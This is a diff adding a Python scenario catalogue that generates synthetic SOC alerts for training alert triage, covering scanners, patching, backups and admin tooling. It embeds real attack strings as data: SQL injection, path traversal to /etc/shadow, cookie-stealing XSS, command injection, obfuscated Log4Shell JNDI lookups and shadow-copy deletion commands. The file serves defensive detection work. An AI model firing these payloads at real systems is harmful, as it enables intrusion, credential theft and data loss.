@@ -1,0 +1,1588 @@
+"""Scenario catalogue for the synthetic alert stream: who fires which rule, and why.
+
+Each scenario is one small function that draws a source-native alert body (Suricata EVE, EDR,
+authentication log, WAF log) from a tenant's pools and returns it with the rule that fired;
+``SCENARIOS`` weighs them. False positives come from the everyday causes a SOC sees (scanners,
+patching, backups, admin scripts, monitoring, developers, typos); true positives from common
+attack techniques. Several FP/TP pairs share the rule, the process and sometimes the parent, so
+the verdict is readable only in the free text (command line, URL, arguments, user agent, DNS
+name): that is what the teacher has to learn to read.
+
+Severity: ``RULES`` holds the SIEM rule severity, 1 (low) to 4 (critical). Suricata's native
+``alert.severity`` counts the other way (1 is the most severe), so IDS bodies carry ``5 - s``.
+"""
+
+from __future__ import annotations
+
+import base64
+from collections.abc import Callable
+from dataclasses import dataclass
+from random import Random
+from typing import Any
+from urllib.parse import quote
+
+Body = dict[str, Any]
+Built = tuple[str, Body]
+Host = tuple[str, str, str]  # (name, ip, os)
+Parent = tuple[str, str]  # (process name, command line)
+FP = "false_positive"
+TP = "true_positive"
+
+BASE32 = "abcdefghijklmnopqrstuvwxyz234567"
+
+
+def words(text: str) -> tuple[str, ...]:
+    """Whitespace-separated word lists read better than one string per line."""
+    return tuple(text.split())
+
+
+SYLLABLES = words(
+    "ka lo mi zu te ra no vi sha qu xe bo fy dra gen tor lux pex vor nim cal zen ori sky net dat"
+)
+
+
+@dataclass(frozen=True, slots=True)
+class World:
+    """Pools shared by every tenant: the internet as the SOC sees it."""
+
+    attackers: tuple[tuple[str, str], ...]  # (ip, geo country)
+    payload_hosts: tuple[str, ...]
+    c2_domains: tuple[str, ...]
+    tunnel_domains: tuple[str, ...]
+    cloud_ips: tuple[str, ...]
+    common_ja3: tuple[str, ...]
+    rare_ja3: tuple[str, ...]
+
+
+@dataclass(frozen=True, slots=True)
+class Site:
+    """One tenant's estate: the hosts, users and names its scenarios draw from."""
+
+    tenant: str
+    netbios: str
+    country: str
+    vhosts: tuple[str, ...]
+    workstations: tuple[Host, ...]
+    dev_workstations: tuple[Host, ...]
+    windows_servers: tuple[Host, ...]
+    iis_servers: tuple[Host, ...]
+    linux_web: tuple[Host, ...]
+    linux_servers: tuple[Host, ...]
+    staging: tuple[Host, ...]
+    monitors: tuple[Host, ...]
+    dns_servers: tuple[Host, ...]
+    users: tuple[str, ...]
+    service_accounts: tuple[str, ...]
+    file_server: str
+    home_ips: tuple[tuple[str, str], ...]  # (ip, geo country) of staff working remotely
+    world: World
+
+    @property
+    def web_servers(self) -> tuple[Host, ...]:
+        """Servers behind the WAF: IIS and Linux web hosts."""
+        return self.iis_servers + self.linux_web
+
+
+def hexs(rng: Random, n: int) -> str:
+    """``n`` random lowercase hex digits."""
+    return f"{rng.getrandbits(4 * n):0{n}x}"
+
+
+def word(rng: Random) -> str:
+    """A pronounceable made-up word (product, domain, job names)."""
+    return "".join(rng.choices(SYLLABLES, k=rng.randint(2, 3)))
+
+
+def guid(rng: Random) -> str:
+    """A Windows-style GUID in braces."""
+    return (
+        f"{{{hexs(rng, 8)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 4)}-{hexs(rng, 12)}}}".upper()
+    )
+
+
+def encode_powershell(script: str) -> str:
+    """Base64 of UTF-16LE text, the form ``powershell -EncodedCommand`` expects."""
+    return base64.b64encode(script.encode("utf-16-le")).decode("ascii")
+
+
+# ---- rules --------------------------------------------------------------------------------------
+
+# SIEM rule name -> (rule id, severity 1..4). Names are shared across scenarios on purpose.
+RULES: dict[str, tuple[int, int]] = {
+    "Suspicious PowerShell Execution": (100101, 3),
+    "Suspicious Certutil Usage": (100102, 3),
+    "Signed Binary Proxy Execution": (100103, 3),
+    "Web Server Spawned Shell": (100104, 4),
+    "Reconnaissance Command Execution": (100105, 2),
+    "Shadow Copy Manipulation": (100106, 3),
+    "Mass File Copy to Network Share": (100107, 1),
+    "Hacktool Execution": (100108, 3),
+    "Execution from Unusual Directory": (100109, 2),
+    "Multiple Failed Logins": (200101, 1),
+    "Brute Force Attempt": (200102, 2),
+    "Password Spraying Detected": (200103, 3),
+    "SQL Injection Attempt": (300101, 3),
+    "Path Traversal Attempt": (300102, 3),
+    "Cross-Site Scripting Attempt": (300103, 2),
+    "Remote Code Execution Attempt": (300104, 4),
+    "Log4j JNDI Injection Attempt": (300105, 4),
+    "Suspicious User-Agent": (300106, 1),
+    "Sensitive Path Access": (300107, 2),
+}
+NMAP_UA_RULE = "ET SCAN Possible Nmap User-Agent Observed"
+SQLMAP_RULE = "ET SCAN Sqlmap SQL Injection Scan"
+UNION_RULE = "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT"
+PASSWD_RULE = "ET WEB_SERVER /etc/passwd Detected in URI"
+LOG4J_RULE = "ET EXPLOIT Apache log4j RCE Attempt (CVE-2021-44228)"
+ODD_UA_RULE = "ET USER_AGENTS Suspicious User-Agent"
+APT_RULE = "ET POLICY GNU/Linux APT User-Agent Outbound likely related to package management"
+YUM_RULE = "ET POLICY GNU/Linux YUM User-Agent Outbound likely related to package management"
+EXE_RULE = "ET INFO Executable Download with Minimal HTTP Headers"
+LONG_DNS_RULE = "ET INFO DNS Query with Unusually Long Subdomain"
+TLS_RULE = "ET POLICY TLS Connection to Uncommon Domain"
+JA3_RULE = "ET JA3 Suspicious JA3 Client Fingerprint"
+# Suricata signatures: name -> (signature id, SIEM severity, Suricata category).
+IDS_RULES: dict[str, tuple[int, int, str]] = {
+    NMAP_UA_RULE: (2024364, 2, "Detection of a Network Scan"),
+    SQLMAP_RULE: (2008538, 2, "Attempted Information Leak"),
+    UNION_RULE: (2006446, 3, "Web Application Attack"),
+    PASSWD_RULE: (2009151, 3, "Attempted Information Leak"),
+    LOG4J_RULE: (2034647, 4, "Attempted Administrator Privilege Gain"),
+    ODD_UA_RULE: (2010697, 2, "Misc activity"),
+    APT_RULE: (2013504, 1, "Not Suspicious Traffic"),
+    YUM_RULE: (2013505, 1, "Not Suspicious Traffic"),
+    EXE_RULE: (2018959, 3, "Potentially Bad Traffic"),
+    LONG_DNS_RULE: (2033966, 3, "Potentially Bad Traffic"),
+    TLS_RULE: (2036000, 2, "Potential Corporate Privacy Violation"),
+    JA3_RULE: (2028371, 2, "Unknown Traffic"),
+}
+RULES.update({name: (sid, sev) for name, (sid, sev, _) in IDS_RULES.items()})
+
+# ---- body builders ------------------------------------------------------------------------------
+
+
+def _edr(rng: Random, host: Host, exe: str, cmd: str, user: str, parent: Parent) -> Body:
+    """EDR process alert body; ``exe`` is the full image path."""
+    return {
+        "host": {"name": host[0], "ip": host[1], "os": host[2]},
+        "process": {
+            "name": exe.replace("/", "\\").rsplit("\\", 1)[-1],
+            "path": exe,
+            "command_line": cmd,
+            "pid": rng.randrange(400, 65000, 4),
+            "user": user,
+            "parent": {"name": parent[0], "command_line": parent[1]},
+        },
+    }
+
+
+# Flow counters per traffic shape: (pkts to server, to client, bytes/pkt to server, to client).
+FLOW_SHAPES: dict[str, tuple[tuple[int, int], ...]] = {
+    "dns": ((1, 2), (1, 2), (70, 260), (90, 420)),
+    "beacon": ((5, 9), (4, 8), (90, 180), (80, 260)),
+    "web": ((4, 30), (4, 60), (80, 700), (200, 1400)),
+    "bulk": ((30, 900), (60, 4000), (60, 200), (900, 1460)),
+}
+
+
+def _flow(rng: Random, shape: str) -> Body:
+    """Suricata flow counters drawn for a traffic shape."""
+    pts, ptc, bts, btc = FLOW_SHAPES[shape]
+    to_server, to_client = rng.randint(*pts), rng.randint(*ptc)
+    return {
+        "pkts_toserver": to_server,
+        "pkts_toclient": to_client,
+        "bytes_toserver": to_server * rng.randint(*bts),
+        "bytes_toclient": to_client * rng.randint(*btc),
+    }
+
+
+def _ids(
+    rng: Random, rule: str, src: str, dest: tuple[str, int], section: Built, shape: str
+) -> Built:
+    """Suricata EVE alert: 5-tuple, alert block, one protocol section, flow counters."""
+    app_proto, payload = section
+    sid, severity, category = IDS_RULES[rule]
+    return rule, {
+        "event_type": "alert",
+        "src_ip": src,
+        "src_port": rng.randint(1024, 65535),
+        "dest_ip": dest[0],
+        "dest_port": dest[1],
+        "proto": "UDP" if app_proto == "dns" else "TCP",
+        "app_proto": app_proto,
+        "alert": {
+            "signature": rule,
+            "signature_id": sid,
+            "category": category,
+            "severity": 5 - severity,
+            "action": "blocked" if rng.random() < 0.08 else "allowed",
+        },
+        app_proto: payload,
+        "flow": _flow(rng, shape),
+    }
+
+
+def _http(host: str, url: str, ua: str, method: str, status: int, length: int) -> Built:
+    """The ``http`` section of an EVE record."""
+    fields = {"hostname": host, "url": url, "http_user_agent": ua, "http_method": method}
+    return "http", {**fields, "status": status, "length": length}
+
+
+def _waf(
+    rng: Random,
+    site: Site,
+    client: str,
+    request: tuple[str, str, str, str],
+    status: int,
+    matched_rule: str,
+) -> Body:
+    """WAF log body; ``request`` is (method, uri, args, user agent). A 403 means blocked."""
+    method, uri, args, ua = request
+    return {
+        "client": {"ip": client},
+        "host": {"name": rng.choice(site.web_servers)[0]},
+        "request": {
+            "method": method,
+            "host": rng.choice(site.vhosts),
+            "uri": uri,
+            "args": args,
+            "user_agent": ua,
+            "length": len(uri) + len(args) + len(ua) + rng.randint(120, 900),
+        },
+        "response": {
+            "status": status,
+            "length": rng.randint(900, 80000) if status == 200 else rng.randint(0, 700),
+        },
+        "waf": {"action": "block" if status == 403 else "detect", "matched_rule": matched_rule},
+    }
+
+
+def _auth(
+    site: Site,
+    user: str,
+    client: tuple[str, str],
+    target: str,
+    auth: tuple[str, str, str, int, int],
+) -> Body:
+    """Auth log body; ``auth`` is (service, method, outcome, failures_last_hour, distinct_users)."""
+    service, method, outcome, failures, distinct = auth
+    return {
+        "user": {"name": user, "domain": site.netbios},
+        "client": {"ip": client[0], "geo_country": client[1]},
+        "host": {"name": target},
+        "auth": {
+            "service": service,
+            "method": method,
+            "outcome": outcome,
+            "failures_last_hour": failures,
+            "distinct_users_from_ip": distinct,
+        },
+    }
+
+
+# ---- free text ----------------------------------------------------------------------------------
+
+BROWSER_UAS = (
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/{v}.0.{b}.{p} Safari/537.36",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/{v}.0.{b}.{p} Safari/537.36 Edg/{v}.0.{b}.{p}",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0",
+    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
+    "Version/17.{m} Safari/605.1.15",
+    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_{m} like Mac OS X) AppleWebKit/605.1.15 "
+    "(KHTML, like Gecko) Version/17.{m} Mobile/15E148 Safari/604.1",
+    "Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
+    "Chrome/{v}.0.{b}.{p} Mobile Safari/537.36",
+)
+MONITOR_UAS = (
+    "check_http/v2.3.3 (nagios-plugins 2.3.3)",
+    "Zabbix",
+    "Zabbix 6.4.10",
+    "Prometheus/2.48.1",
+    "Blackbox Exporter/0.24.0",
+    "kube-probe/1.28",
+    "Datadog Agent/7.50.3",
+    "Go-http-client/1.1",
+    "python-requests/2.31.0",
+    "curl/8.4.0",
+    "ELB-HealthChecker/2.0",
+    "Uptime-Kuma/1.23.11",
+)
+# Beacons favour stale or bare user agents; some overlap with monitoring tools on purpose.
+C2_UAS = (
+    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 6.1)",
+    "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko",
+    "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2)",
+    "Microsoft Internet Explorer",
+    "WinHTTP loader/1.0",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
+    "Go-http-client/1.1",
+    "python-requests/2.25.1",
+    "curl/7.55.1",
+)
+WEB_PATHS = words(
+    "/products /product/view /search /api/v1/orders /api/v2/users /account/profile /cart/add "
+    "/login /catalog/item /news/article /support/ticket /reports/export /download /index.php "
+    "/view.php /item.asp /portal/docs /api/v1/invoices /customer/lookup /shop/category "
+    "/admin/users /wp-login.php /graphql /cgi-bin/q"
+)
+PATH_WORDS = words(
+    "static assets v2 legacy public uploads beta archive internal media files docs tmp cdn img data"
+)
+URL_PARAMS = words(
+    "id q search item product_id cat page user file path doc lang ref sort order uid pid name "
+    "category query report template view"
+)
+LOG4J_TEMPLATES = (
+    "${jndi:{p}://{c}}",
+    "${${lower:j}ndi:{p}://{c}}",
+    "${${::-j}${::-n}${::-d}${::-i}:{p}://{c}}",
+    "${jndi:${lower:l}${lower:d}a${lower:p}://{c}}",
+    "${${env:NaN:-j}ndi${env:NaN:-:}{p}${env:NaN:-:}//{c}}",
+    "${j${::-n}di:{p}://{c}}",
+    "${${upper:j}ndi:{p}://{c}}",
+    "${${lower:jnd}${lower:i}:{p}://{c}}",
+)
+
+
+def browser_ua(rng: Random) -> str:
+    """A current-looking browser user agent with randomized versions."""
+    template = rng.choice(BROWSER_UAS)
+    return template.format(
+        v=rng.randint(118, 133),
+        b=rng.randint(4000, 6999),
+        p=rng.randint(0, 220),
+        m=rng.randint(0, 6),
+    )
+
+
+def web_path(rng: Random) -> str:
+    """A plausible application path, sometimes with a numeric or word segment."""
+    path, roll = rng.choice(WEB_PATHS), rng.random()
+    if roll < 0.3:
+        return f"{path}/{rng.randint(1, 99999)}"
+    if roll < 0.45:
+        return f"/{rng.choice(PATH_WORDS)}{path}"
+    return path
+
+
+def sqli(rng: Random) -> str:
+    """A real-world SQL injection payload with randomized numbers and columns."""
+    n = rng.randint(1, 9999)
+    nulls = ",".join(["NULL"] * rng.randint(2, 8))
+    table = rng.choice(("users", "accounts", "admin", "customers", "members"))
+    return rng.choice(
+        (
+            f"{n}' OR 1=1--",
+            "' OR '1'='1",
+            f"{n} OR 1=1-- -",
+            f"{n} UNION SELECT {nulls}--",
+            f"{n}' UNION SELECT username,password FROM {table}--",
+            f"-{n} UNION ALL SELECT table_name,{nulls} FROM information_schema.tables--",
+            f"{n} AND SLEEP({rng.randint(3, 15)})",
+            f"{n}';WAITFOR DELAY '0:0:{rng.randint(3, 9)}'--",
+            f"{n}' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
+            "admin'--",
+            f"{n} AND 1=CONVERT(int,@@version)--",
+        )
+    )
+
+
+def traversal(rng: Random) -> str:
+    """A path traversal payload of random depth and encoding."""
+    depth = rng.randint(2, 9)
+    target = rng.choice(("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ"))
+    windows = rng.choice(("windows\\win.ini", "boot.ini", "inetpub\\wwwroot\\web.config"))
+    return rng.choice(
+        (
+            "../" * depth + target,
+            "..%2f" * depth + target.replace("/", "%2f"),
+            "....//" * depth + target,
+            "%2e%2e%2f" * depth + target,
+            "..\\" * depth + windows,
+        )
+    )
+
+
+def xss(rng: Random) -> str:
+    """A reflected XSS probe."""
+    n = rng.randint(1, 99999)
+    return rng.choice(
+        (
+            f"<script>alert({n})</script>",
+            '"><svg/onload=alert(document.domain)>',
+            f"<img src=x onerror=prompt({n})>",
+            "javascript:alert(document.cookie)",
+        )
+    )
+
+
+def rce(rng: Random) -> str:
+    """An OS command / code injection probe."""
+    return rng.choice(
+        (
+            ";cat /etc/passwd",
+            "|id",
+            f"$(sleep {rng.randint(3, 12)})",
+            "`uname -a`",
+            "<?php phpinfo(); ?>",
+            f"&ping -c {rng.randint(2, 9)} 127.0.0.1&",
+        )
+    )
+
+
+def jndi(rng: Random, callback: str) -> str:
+    """A Log4Shell lookup, plain or obfuscated the way exploit kits and scanners send it."""
+    proto = rng.choice(("ldap", "ldap", "ldaps", "rmi", "dns"))
+    return rng.choice(LOG4J_TEMPLATES).replace("{p}", proto).replace("{c}", callback)
+
+
+def payload_url(rng: Random, site: Site, ext: str) -> str:
+    """A URL on an attacker-controlled staging host."""
+    scheme = "https" if rng.random() < 0.3 else "http"
+    stem = rng.choice(
+        (
+            f"{word(rng)}/{hexs(rng, 8)}",
+            word(rng),
+            hexs(rng, 6),
+            f"{rng.choice(PATH_WORDS)}/{word(rng)}",
+        )
+    )
+    return f"{scheme}://{rng.choice(site.world.payload_hosts)}/{stem}.{ext}"
+
+
+def _encode(rng: Random, payload: str) -> str:
+    """Attack tools and browsers encode differently; keep a mix so encoding is no tell."""
+    roll = rng.random()
+    if roll < 0.4:
+        return quote(payload, safe="")
+    return payload.replace(" ", "+") if roll < 0.7 else payload
+
+
+def _args(rng: Random, payload: str) -> str:
+    args = f"{rng.choice(URL_PARAMS)}={_encode(rng, payload)}"
+    if rng.random() < 0.4:
+        args += f"&{rng.choice(URL_PARAMS)}={rng.randint(1, 500)}"
+    return args
+
+
+def _host(rng: Random, site: Site, server_share: float) -> Host:
+    """A workstation, or a Windows server with probability ``server_share``."""
+    return rng.choice(site.windows_servers if rng.random() < server_share else site.workstations)
+
+
+def _user(rng: Random, site: Site) -> str:
+    return f"{site.netbios}\\{rng.choice(site.users)}"
+
+
+# Windows accounts, images and parents that admins and attackers alike start processes from.
+SYSTEM = "NT AUTHORITY\\SYSTEM"
+SCHEDULER: Parent = ("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule")
+EXPLORER: Parent = ("explorer.exe", "C:\\Windows\\Explorer.EXE")
+WMIPRVSE: Parent = ("WmiPrvSE.exe", "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding")
+CMD_PARENT: Parent = ("cmd.exe", '"C:\\Windows\\system32\\cmd.exe"')
+SYS32 = "C:\\Windows\\System32\\"
+POWERSHELL = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
+CMD = SYS32 + "cmd.exe"
+PROXY_RULE = "Signed Binary Proxy Execution"
+
+
+# ---- internal vulnerability scanners (FP) -------------------------------------------------------
+
+SCANNER_NET = "10.0.5.0/28"
+SCANNERS = (  # (ip, product, the product's own user agent)
+    ("10.0.5.2", "Nessus", "Nessus SOAP"),
+    ("10.0.5.3", "Nessus", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)"),
+    ("10.0.5.6", "Qualys", "Mozilla/5.0 (compatible; Qualys Vulnerability Scanner)"),
+    ("10.0.5.9", "OpenVAS", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"),
+)
+# Probe families: (WAF rule, CRS rule id, IDS signature or "", payload maker).
+PROBES: tuple[tuple[str, str, str, Callable[[Random], str]], ...] = (
+    ("SQL Injection Attempt", "942100", UNION_RULE, sqli),
+    ("Path Traversal Attempt", "930110", PASSWD_RULE, traversal),
+    ("Cross-Site Scripting Attempt", "941100", "", xss),
+    ("Remote Code Execution Attempt", "932100", "", rce),
+)
+
+
+def _scanner(rng: Random) -> tuple[str, str, str]:
+    """(ip, product, user agent) of one internal scanner; half the probes use a browser UA."""
+    ip, product, branded = rng.choice(SCANNERS)
+    return ip, product, branded if rng.random() < 0.5 else browser_ua(rng)
+
+
+def _scanner_callback(rng: Random, ip: str, product: str) -> str:
+    """Scanners point JNDI lookups back at themselves or at their vendor's canary DNS."""
+    if product == "Nessus" and rng.random() < 0.5:
+        return f"log4shell-generic-{hexs(rng, 20)}.r.nessus.org/nessus"
+    return f"{ip}:{rng.choice((389, 1389, 1099))}/{product.lower()}-{hexs(rng, 12)}"
+
+
+def scanner_waf(rng: Random, site: Site) -> Built:
+    """Internal vulnerability scan of a web app: attack strings answered 403/404/400."""
+    ip, product, ua = _scanner(rng)
+    status = rng.choice((403, 403, 404, 400))
+    if rng.random() < 0.2:
+        payload = jndi(rng, _scanner_callback(rng, ip, product))
+        request = ("GET", web_path(rng), _args(rng, payload), payload)
+        return "Log4j JNDI Injection Attempt", _waf(rng, site, ip, request, status, "944150")
+    rule, crs, _, make = rng.choice(PROBES)
+    request = (rng.choice(("GET", "GET", "POST")), web_path(rng), _args(rng, make(rng)), ua)
+    return rule, _waf(rng, site, ip, request, status, crs)
+
+
+def scanner_ids(rng: Random, site: Site) -> Built:
+    """Internal vulnerability scan seen by the IDS on the server segment."""
+    ip, product, ua = _scanner(rng)
+    if rng.random() < 0.35:
+        rule, url, ua = LOG4J_RULE, web_path(rng), jndi(rng, _scanner_callback(rng, ip, product))
+    else:
+        _, _, rule, make = rng.choice(PROBES[:2])
+        url = f"{web_path(rng)}?{_args(rng, make(rng))}"
+    status = rng.choice((403, 404, 404, 400, 301))
+    http = _http(rng.choice(site.vhosts), url, ua, "GET", status, rng.randint(0, 600))
+    dest = (rng.choice(site.web_servers)[1], rng.choice((80, 443, 8080)))
+    return _ids(rng, rule, ip, dest, http, "web")
+
+
+# ---- patch and update agents (FP) ---------------------------------------------------------------
+
+PRODUCTS = words(
+    "GoogleChromeStandaloneEnterprise64.msi 7z2301-x64.msi AcroRdrDCx64.msi "
+    "ZoomInstallerFull.msi Teams_windows_x64.msi npp.8.6.2.Installer.x64.msi "
+    "vlc-3.0.20-win64.msi FirefoxSetup115.8.0esr.msi jre-8u401-windows-x64.msi LAPS.x64.msi"
+)
+CCMEXEC: Parent = ("CcmExec.exe", "C:\\Windows\\CCM\\CcmExec.exe")
+TIWORKER: Parent = (
+    "TiWorker.exe",
+    "C:\\Windows\\winsxs\\amd64_microsoft-windows-servicingstack_"
+    "31bf3856ad364e35_10.0.19041.3745_none\\TiWorker.exe -Embedding",
+)
+WUAUSERV: Parent = ("svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wuauserv")
+
+
+def patch_edr(rng: Random, site: Site) -> Built:
+    """SCCM and Windows Update installing software: msiexec, regsvr32, DismHost from odd paths."""
+    host, roll = _host(rng, site, 0.3), rng.random()
+    if roll < 0.4:
+        cache = f"C:\\Windows\\ccmcache\\{rng.choice(BASE32)}{rng.randint(1, 9)}"
+        cmd = (
+            f'msiexec.exe /i "{cache}\\{rng.choice(PRODUCTS)}" /qn /norestart REBOOT=ReallySuppress'
+        )
+        if rng.random() < 0.3:
+            cmd += f' /l*v "C:\\Windows\\Temp\\{word(rng)}_install.log"'
+        exe = SYS32 + "msiexec.exe"
+        return PROXY_RULE, _edr(rng, host, exe, cmd, SYSTEM, CCMEXEC)
+    if roll < 0.6:
+        dll = f"C:\\Program Files\\{word(rng).title()}\\{word(rng)}{rng.choice((32, 64))}.dll"
+        parent = ("msiexec.exe", "C:\\Windows\\system32\\msiexec.exe /V")
+        body = _edr(
+            rng,
+            host,
+            SYS32 + "regsvr32.exe",
+            f'regsvr32.exe /s "{dll}"',
+            SYSTEM,
+            parent,
+        )
+        return PROXY_RULE, body
+    if roll < 0.8:
+        exe, tag = f"C:\\Windows\\Temp\\{guid(rng)}\\DismHost.exe", guid(rng)
+        return "Execution from Unusual Directory", _edr(
+            rng, host, exe, f"{exe} {tag}", SYSTEM, TIWORKER
+        )
+    kb = rng.randint(5030000, 5049999)
+    exe = (
+        f"C:\\Windows\\SoftwareDistribution\\Download\\{hexs(rng, 32)}\\windows10.0-kb{kb}-x64.exe"
+    )
+    body = _edr(rng, host, exe, f'"{exe}" /quiet /norestart', SYSTEM, WUAUSERV)
+    return "Execution from Unusual Directory", body
+
+
+def _apt_request(rng: Random, site: Site) -> Built:
+    pkg = rng.choice(("openssl", "linux-image-generic", "curl", "nginx", "libc6", "openssh-server"))
+    version = (
+        f"{rng.randint(1, 9)}.{rng.randint(0, 20)}-0ubuntu{rng.randint(1, 9)}.{rng.randint(1, 30)}"
+    )
+    url = f"/ubuntu/pool/main/{pkg[0]}/{pkg}/{pkg}_{version}_amd64.deb"
+    mirror = rng.choice(
+        ("archive.ubuntu.com", "security.ubuntu.com", f"mirror.{site.tenant}.internal")
+    )
+    ua = f"Debian APT-HTTP/1.3 (2.4.{rng.randint(5, 12)})"
+    return _http(mirror, url, ua, "GET", 200, rng.randint(20000, 9000000))
+
+
+def _yum_request(rng: Random, site: Site) -> Built:
+    pkg = rng.choice(("kernel", "openssl-libs", "glibc", "httpd", "sudo", "systemd"))
+    version = f"{rng.randint(1, 5)}.{rng.randint(0, 40)}-{rng.randint(1, 500)}"
+    url = f"/rocky/9/BaseOS/x86_64/os/Packages/{pkg[0]}/{pkg}-{version}.el9.x86_64.rpm"
+    mirror = rng.choice(("dl.rockylinux.org", f"repo.{site.tenant}.internal"))
+    ua = "libdnf (Rocky Linux 9.3; generic; Linux.x86_64)"
+    return _http(mirror, url, ua, "GET", 200, rng.randint(20000, 9000000))
+
+
+def _windows_update_request(rng: Random) -> Built:
+    kb = rng.randint(5030000, 5049999)
+    url = f"/d/msdownload/update/software/secu/2026/01/windows10.0-kb{kb}-x64_{hexs(rng, 40)}.cab"
+    host = rng.choice(
+        ("download.windowsupdate.com", f"{rng.randint(1, 9)}.tlu.dl.delivery.mp.microsoft.com")
+    )
+    ua = rng.choice(
+        (
+            "Microsoft-Delivery-Optimization/10.0",
+            "Windows-Update-Agent/10.0.10011.16384 Client-Protocol/2.50",
+        )
+    )
+    return _http(host, url, ua, "GET", 200, rng.randint(100000, 90000000))
+
+
+def patch_ids(rng: Random, site: Site) -> Built:
+    """Package mirrors and Windows Update downloads tripping policy signatures."""
+    roll = rng.random()
+    if roll < 0.35:
+        rule, src, http = APT_RULE, rng.choice(site.linux_servers), _apt_request(rng, site)
+    elif roll < 0.6:
+        rule, src, http = YUM_RULE, rng.choice(site.linux_servers), _yum_request(rng, site)
+    else:
+        rule, src, http = EXE_RULE, _host(rng, site, 0.2), _windows_update_request(rng)
+    return _ids(rng, rule, src[1], (rng.choice(site.world.cloud_ips), 80), http, "bulk")
+
+
+# ---- backup jobs (FP, at night) -----------------------------------------------------------------
+
+VEEAM: Parent = (
+    "Veeam.Backup.Service.exe",
+    '"C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Service.exe"',
+)
+DEPARTMENTS = ("Finance", "HR", "Legal", "Sales", "Engineering", "Marketing", "Projects", "Shared")
+
+
+def backup_job(rng: Random, site: Site) -> Built:
+    """Nightly backups: VSS snapshots and rotation, wbadmin, robocopy mirrors, Veeam agents."""
+    host, roll = rng.choice(site.windows_servers), rng.random()
+    user = rng.choice((SYSTEM, f"{site.netbios}\\svc_backup", f"{site.netbios}\\svc_veeam"))
+    drive = rng.choice("CDEF")
+    script = ("cmd.exe", f"C:\\Windows\\system32\\cmd.exe /c D:\\Scripts\\{word(rng)}_nightly.cmd")
+    parent = rng.choice((VEEAM, SCHEDULER, script))
+    if roll < 0.45:
+        cmd = rng.choice(
+            (
+                f"vssadmin.exe create shadow /for={drive}:",
+                f"vssadmin list shadows /for={drive}:",
+                f"vssadmin delete shadows /for={drive}: /oldest /quiet",
+                f"vssadmin resize shadowstorage /for={drive}: /on={drive}: "
+                f"/maxsize={rng.randint(5, 20)}%",
+            )
+        )
+        body = _edr(rng, host, SYS32 + "vssadmin.exe", cmd, user, parent)
+        return "Shadow Copy Manipulation", body
+    if roll < 0.6:
+        cmd = (
+            f"wbadmin start backup -backupTarget:\\\\{site.file_server}\\wsb$\\{host[0]} "
+            f"-include:C:,{drive}: -allCritical -vssFull -quiet"
+        )
+        body = _edr(rng, host, SYS32 + "wbadmin.exe", cmd, user, parent)
+        return "Shadow Copy Manipulation", body
+    dept = rng.choice(DEPARTMENTS)
+    cmd = (
+        f'robocopy.exe "{drive}:\\Shares\\{dept}" "\\\\{site.file_server}\\backup$\\{host[0]}\\'
+        f'{dept}" /MIR /R:2 /W:5 /NP /LOG:C:\\Logs\\robocopy_{hexs(rng, 6)}.log'
+    )
+    if roll < 0.85:
+        return "Mass File Copy to Network Share", _edr(
+            rng, host, SYS32 + "Robocopy.exe", cmd, user, parent
+        )
+    exe = "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\VeeamAgent.exe"
+    cmd = f'"{exe}" -l "C:\\ProgramData\\Veeam\\Backup\\{word(rng)}\\Agent.{guid(rng)}.log"'
+    return "Mass File Copy to Network Share", _edr(rng, host, exe, cmd, SYSTEM, VEEAM)
+
+
+# ---- admin scripts (FP) -------------------------------------------------------------------------
+
+PDQ: Parent = (
+    "PDQDeployRunner-1.exe",
+    '"C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\exec\\PDQDeployRunner-1.exe"',
+)
+WSMPROVHOST: Parent = ("wsmprovhost.exe", "C:\\Windows\\system32\\wsmprovhost.exe -Embedding")
+# Management tools, the scheduler, WinRM (Ansible) and an admin's own shell: attacks share some.
+ADMIN_PARENTS = (CCMEXEC, CCMEXEC, PDQ, WSMPROVHOST, WSMPROVHOST, SCHEDULER, CMD_PARENT, EXPLORER)
+ADMIN_SCRIPTS = words(
+    "Get-Inventory Set-BitLockerPolicy Clear-TempFiles Install-Fonts Update-RootCerts "
+    "Map-Drives Collect-Logs Reset-PrintSpooler Sync-Time Remove-OldProfiles Check-DiskSpace "
+    "Deploy-Office Set-PowerPlan Export-EventLogs Rotate-LocalAdmin Repair-WMI Set-Wallpaper "
+    "Enable-Defender Get-InstalledApps Cleanup-SCCMCache"
+)
+ADMIN_INLINE = (
+    "Get-WmiObject Win32_QuickFixEngineering | Export-Csv \\\\{fs}\\inventory$\\{h}.csv",
+    "Get-Service -Name {w}* | Where-Object Status -eq 'Stopped' | Start-Service",
+    "Get-ChildItem C:\\Windows\\Temp -Recurse | Where LastWriteTime -lt (Get-Date).AddDays(-{n}) "
+    "| Remove-Item -Force",
+    "Restart-Service Spooler -Force; Get-Printer | Select Name,PortName "
+    "| Out-File C:\\Temp\\{w}.txt",
